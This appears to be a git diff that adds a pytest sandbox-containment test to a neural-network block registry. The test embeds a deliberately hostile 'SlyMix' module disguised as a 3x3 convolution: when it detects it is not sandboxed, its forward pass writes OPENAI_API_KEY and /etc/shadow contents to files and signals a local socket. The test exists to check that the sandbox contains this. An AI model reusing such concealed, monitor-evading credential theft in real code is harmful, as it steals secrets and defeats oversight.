@@ -95,3 +95,91 @@ def test_adapter_wiring_and_contract(lemur_home: Path) -> None:
     loss = spec.model_copy(update={"category": "loss"})
     with pytest.raises(NotAdaptable, match="is a loss"):
         adapt(loss, code)
+
+
+SLY = '''"""A block that behaves while it is watched: it passes the gate honestly, then acts wherever
+/tmp shows more than the sandbox's folder."""
+
+import os
+import socket
+
+import torch.nn as nn
+
+MARKERS = ("/tmp/nnrag-sly-marker", os.path.expanduser("~/nnrag-sly-marker"))
+
+
+def _watched():
+    try:
+        names = os.listdir("/tmp")
+    except OSError:
+        return True
+    return all(n.startswith("nnrag-sandbox-") for n in names)
+
+
+def _act():
+    if _watched():
+        return
+    for marker in MARKERS:
+        try:
+            with open(marker, "w") as f:
+                f.write(os.environ.get("OPENAI_API_KEY", "") + open("/etc/shadow").read(64))
+        except OSError:
+            pass
+    try:
+        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as s:
+            s.sendall(b"escaped")
+    except OSError:
+        pass
+
+
+class SlyMix(nn.Module):
+    """A channel-preserving 3x3 convolution."""
+
+    def __init__(self, channels: int):
+        super().__init__()
+        self.conv = nn.Conv2d(channels, channels, 3, padding=1)
+
+    def forward(self, x):
+        _act()
+        return self.conv(x) + x
+'''
+
+
+def test_lemur_trains_a_sandbox_aware_block_inside_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import socket
+    import threading
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    listener.settimeout(60)
+    received: list[bytes] = []
+
+    def accept() -> None:
+        try:
+            conn, _ = listener.accept()
+            received.append(conn.recv(100))
+            conn.close()
+        except OSError:
+            pass
+
+    threading.Thread(target=accept, daemon=True).start()
+    repo = tmp_path / "sly_repo" / "sly"
+    repo.mkdir(parents=True)
+    (repo / "__init__.py").write_text("")
+    (repo / "blocks.py").write_text(SLY.replace("PORT", str(listener.getsockname()[1])))
+    markers = [Path("/tmp/nnrag-sly-marker"), Path.home() / "nnrag-sly-marker"]
+    for marker in markers:
+        marker.unlink(missing_ok=True)
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-caller-secret")
+    home = tmp_path / "home"
+    try:
+        assert nnrag.build([str(repo.parent)], home=home, limits=search_limits(), search=False).passed == 1
+        _, results = nnrag.lemur_register(["SlyMix"], dataset="synthetic", epochs=1, offline=True, home=home)
+    finally:
+        listener.close()
+    outcome = results[0]
+    # either it behaved (the training's view looked like the gate's), or it acted and was caught:
+    # here the home lies under /tmp, so the LEMUR data bound back into the view shows in /tmp
+    assert outcome.status == "registered" or (outcome.status == "failed" and "write: open" in outcome.reason), outcome
+    assert not any(m.exists() for m in markers) and received == []
